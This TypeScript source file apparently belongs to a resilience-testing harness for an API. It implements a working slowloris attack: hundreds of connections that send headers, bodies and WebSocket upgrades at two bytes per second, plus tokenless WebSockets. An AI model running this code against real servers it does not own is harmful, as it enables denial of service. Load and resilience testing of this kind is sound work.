/** Connections that never get done: headers, bodies and upgrades byte by byte, and WebSockets without a token. */
import type { Field } from "../attacker/field.ts";
import { authority, Line, requestText, upgradeText } from "../attacker/line.ts";
import { held, paced } from "../attacker/pace.ts";
import type { Attack } from "./attack.ts";

const ofEach = 200;
const bytesPerSecond = 2;
const bodyBytes = 100_000;

/** A line that says its text byte by byte, and goes on with a padding that never ends. */
class Dribble extends Line {
  readonly #text: string;
  readonly #padding: string;
  #at: number;

  constructor(field: Field, text: string, padding: string, atOnce: number) {
    super(field);
    this.#text = text;
    this.#padding = padding;
    this.#at = atOnce;
    this.write(text.slice(0, atOnce));
  }

  next(): boolean {
    const byte = this.#text[this.#at] ?? this.#padding[this.#at % this.#padding.length] ?? "";
    this.#at++;
    return this.write(byte);
  }
}

function dribble(field: Field, what: string, text: string, padding: string, atOnce: number): void {
  const lines = held(ofEach, () => new Dribble(field, text, padding, atOnce));
  paced(ofEach * bytesPerSecond, (index) => {
    if (lines[index % ofEach]?.next()) field.tally.sent(`bytes of ${what}`);
  });
}

export const slowloris: Attack = {
  name: "slowloris",
  about: `${ofEach} connections each, ${bytesPerSecond} byte/s: headers, bodies, upgrades; ${ofEach} WebSockets without a token`,
  start: (field) => {
    const body = { "content-type": "application/json", "content-length": String(bodyBytes) };
    const post = requestText(field, "POST /v1/events", undefined, body);
    const upgrade = upgradeText(field, {}).slice(0, -2);
    dribble(
      field,
      "headers",
      `GET /v1/info HTTP/1.1\r\nhost: ${authority(field.host, field.port)}\r\n`,
      "x-a: b\r\n",
      1,
    );
    dribble(field, "bodies", `${post}[`, " ", post.length);
    dribble(field, "upgrades", upgrade, "x-a: b\r\n", upgrade.length - 20);
    held(ofEach, () => {
      const line = new Line(field);
      line.upgrade({});
      field.tally.sent("upgrades without a token");
      return line;
    });
  },
};
